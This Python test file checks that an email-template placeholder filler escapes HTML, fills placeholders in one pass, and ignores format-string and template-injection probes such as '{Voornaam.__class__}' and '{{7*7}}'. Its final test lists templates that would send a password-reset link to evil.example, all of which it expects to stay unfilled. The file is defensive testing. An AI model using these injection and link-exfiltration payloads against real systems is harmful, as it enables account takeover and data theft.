"""Placeholders are filled in one pass, with strings that stay strings."""

import pytest

from emailtemplates.placeholders import fill_html, fill_text

LINK = "https://portal.example.nl/employee/set-password/a-b_c/?x=1&y=2"


def test_values_are_escaped_in_html_and_as_they_are_in_text() -> None:
    values = {"Voornaam": "<b>x</b><a href=https://evil.example>&amp;"}

    assert fill_html("<p>{Voornaam}</p>", values) == (
        "<p>&lt;b&gt;x&lt;/b&gt;&lt;a href=https://evil.example&gt;&amp;amp;</p>"
    )
    assert fill_text("{Voornaam}", values) == values["Voornaam"]


def test_a_placeholder_in_somebodys_name_stays_text() -> None:
    values = {"Voornaam": "{Link}", "Link": LINK}

    assert fill_html("<p>{Voornaam}</p>", values) == "<p>{Link}</p>"
    assert fill_text("{Voornaam}", values) == "{Link}"


@pytest.mark.parametrize(
    "text",
    ["{Onbekend}", "{Voornaam.__class__}", "{Voornaam!r}", "{Voornaam:>9}", "{0}", "{", "{{7*7}}", "{% debug %}"],
)
def test_whatever_else_stands_in_braces_stays_text(text: str) -> None:
    assert fill_html(text, {"Voornaam": "Anna"}) == text
    assert fill_text(text, {"Voornaam": "Anna"}) == text


def test_control_characters_and_marks_that_turn_the_reading_are_removed() -> None:
    assert fill_text("{Voornaam}", {"Voornaam": "An\x00n\u202ea\x1b\u2028"}) == "Anna"


def test_a_line_end_in_a_value_is_a_line_end() -> None:
    assert fill_html("<p>{Reden}</p>", {"Reden": "left\r\nfor good"}) == "<p>left<br>for good</p>"


def test_an_empty_paragraph_is_left_out() -> None:
    assert fill_html("<p>One.</p>\n<p>{Reden}</p>\n<p>Two.</p>", {"Reden": " "}) == "<p>One.</p>\n<p>Two.</p>"


def test_the_link_as_text_of_its_own_becomes_a_button_with_the_address_written_out() -> None:
    html = fill_html("<p>{Link}</p>", {"Link": LINK}, link_label="Choose")

    assert html.count('href="https://portal.example.nl/employee/set-password/a-b_c/?x=1&amp;y=2"') == 1
    assert ">Choose</a>" in html
    assert ">https://portal.example.nl/employee/set-password/a-b_c/?x=1&amp;y=2</span>" in html


def test_the_link_as_the_whole_of_an_href_is_the_address() -> None:
    html = fill_html('<p><a href="{Link}">Choose</a></p>', {"Link": "https://portal.example.nl/x/"})

    assert html == '<p><a href="https://portal.example.nl/x/">Choose</a></p>'


def test_the_link_within_a_link_is_written_out() -> None:
    html = fill_html('<a href="{Link}">{Link}</a>', {"Link": "https://portal.example.nl/x/"})

    assert html == '<a href="https://portal.example.nl/x/">https://portal.example.nl/x/</a>'


@pytest.mark.parametrize(
    "body",
    [
        '<img src="https://evil.example/?{Link}">',
        '<img src="{Link}">',
        '<a href="https://evil.example/?u={Link}">x</a>',
        '<a href="{Link}.evil.example">x</a>',
        '<a title="{Link}" href="https://evil.example/">x</a>',
    ],
)
def test_the_link_is_given_to_nobody_else(body: str) -> None:
    assert fill_html(body, {"Link": LINK}) == body
